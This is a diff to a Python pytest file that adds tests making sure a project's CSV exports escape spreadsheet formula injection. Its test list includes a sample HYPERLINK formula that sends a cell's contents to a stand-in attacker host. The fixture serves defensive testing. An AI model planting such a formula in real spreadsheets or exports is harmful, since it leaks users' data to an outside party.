@@ -4,7 +4,11 @@ published something else than the data said. Each now gets one clean `path:line:
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -12,11 +16,13 @@ from jsonschema import Draft202012Validator
 
 from macros import schema
 from macros.build import _fingerprint, build_knowledge_base
+from macros.export import FORMULA_START, render_matrix_csv
 from macros.loader import load_document
+from macros.model import Text
 from macros.new import ScaffoldError, build_new_entity
 from macros.patterns import is_id
 from macros.render import safe_id
-from tests.sitebuild import build_site
+from tests.sitebuild import ROOT, build_site
 from tests.synthetic import write_synthetic_data
 
 
@@ -155,3 +161,28 @@ def test_a_dangling_symlink_makes_no_traceback_in_the_build(data: Path, tmp_path
 def test_a_fifo_is_refused_unread(data: Path) -> None:
     os.mkfifo(data / "tags/pipe.yml")
     assert errors(data) == ["data/tags/pipe.yml:1:1: not a regular file (data files are plain text files; remove it)"]
+
+
+# --- CSV: no cell is a formula --------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_matrix_csv_cells_are_never_formulas(data: Path, formula: str) -> None:
+    kb = build_knowledge_base(data).knowledge_base
+    assert kb is not None
+    char = next(iter(kb.characteristics.values()))
+    hostile = dataclasses.replace(char.recommendations[0], why=Text(formula, formula))
+    kb.characteristics[char.id] = dataclasses.replace(char, recommendations=(hostile, *char.recommendations[1:]))
+    rows = list(csv.DictReader(io.StringIO(render_matrix_csv(kb), newline="")))
+    row = next(r for r in rows if r["characteristic"] == char.id and r["capability"] == hostile.capability)
+    assert (row["why_en"], row["why_ja"]) == ("'" + formula, "'" + formula)
+    assert [cell for r in rows for cell in r.values() if cell.startswith(tuple(FORMULA_START))] == []
+
+
+def test_the_profiler_csv_uses_the_same_formula_rule() -> None:
+    script = (ROOT / "overrides/assets/javascripts/profiler.js").read_text(encoding="utf-8")
+    rule = re.search(r"function csvCell\(value\) \{.*?if \(/\^\[(.*?)\]/\.test\(cell\)\) cell = \"'\" \+ cell;", script, re.S)
+    assert rule, "profiler.js's csvCell no longer guards formulas as expected"
+    assert rule[1].replace("\\-", "-").encode().decode("unicode_escape") == FORMULA_START
